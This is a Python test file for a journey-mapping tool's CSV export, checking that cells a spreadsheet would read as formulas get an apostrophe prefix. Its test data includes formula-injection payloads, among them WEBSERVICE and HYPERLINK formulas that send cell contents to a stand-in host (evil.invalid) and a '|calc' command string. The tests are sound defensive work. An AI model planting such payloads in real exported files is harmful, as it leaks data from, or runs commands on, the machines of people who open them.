"""Tables that a spreadsheet opens as they are, and in which nothing is reckoned."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from journeybook.analysis.scorecard.scores import Scores
from journeybook.exports.sheet import harmless, sheet
from journeybook.exports.sheets import standings, steps
from journeybook.model.addresses import Addresses
from journeybook.words import load

from tests.builders import read_text

YAML = """\
title: =HYPERLINK("https://evil.invalid/?x="&A1)
persona: jonge-huurder
owner: klantervaring
status: draft
stages:
  - title: Inspiratie
    steps:
      - title: Ik zie een bank; "mooi"
        channel: social
        sentiment: 4
      - title: "-5"
        sentiment: {start: 4, end: 2, feeling: onzeker}
        pain_points: ["@kassa", "+31"]
      - title: Ik slaap er een nacht over
  - title: Later
"""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    '=WEBSERVICE("https://evil.invalid/"&A1)',
]


def rows(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def table(make, base="https://site.example/"):
    scores = Scores(read_text(YAML).catalogue, dt.date(2026, 11, 3))
    return rows(make(scores, load("nl"), Addresses(), base))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Wachten < 5 dagen", "a=b", "5-", "'s avonds", "", "é"])
def test_any_other_text_stays_as_it_is(text):
    assert harmless(text) == text


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=5))
def test_no_text_is_lost_and_none_begins_a_formula(texts):
    head, *found = rows(sheet(["kop"] * len(texts), [texts]))

    assert head == ["kop"] * len(texts)
    assert [it.removeprefix("'") for it in found[0]] == [it.removeprefix("'") for it in texts]
    assert not any(it.lstrip().startswith(("=", "+", "-", "@", "|")) for it in found[0])


def test_every_cell_stands_in_quotes_and_every_line_ends_the_same_way():
    assert sheet(["a", "b"], [["x;y", 3], ['"', None]]) == (
        '\ufeff"a";"b"\r\n"x;y";"3"\r\n"""";""\r\n'
    )


def test_a_journey_says_how_it_stands_on_each_check_in_the_words_of_the_site():
    head, found = table(standings)

    told = dict(zip(head, found, strict=True))
    assert told["Reis"] == "'" + '=HYPERLINK("https://evil.invalid/?x="&A1)'
    assert (told["Soort"], told["Status"]) == ("Klantreis", "Concept")
    assert (told["Checks gehaald"], told["Gevraagde checks"]) == ("0", "9")
    assert told["Adres"] == "https://site.example/journeys/reis/"
    assert [told[it] for it in head[9:-1]] == ["onbekend"] * 9


def test_a_step_says_how_it_feels_and_an_unknown_feeling_is_an_empty_cell():
    head, *found = table(steps, base="")

    assert head[5:7] == ["Gevoel aan het begin, 1 tot 5", "Gevoel aan het eind, 1 tot 5"]
    assert [it[1:3] + it[5:9] for it in found] == [
        ["Inspiratie", 'Ik zie een bank; "mooi"', "4", "4", "", ""],
        ["Inspiratie", "'-5", "4", "2", "onzeker", "'@kassa / +31"],
        ["Inspiratie", "Ik slaap er een nacht over", "", "", "", ""],
        ["Later", "", "", "", "", ""],
    ]
    assert found[0][-1] == "journeys/reis/#step-ik-zie-een-bank-mooi"
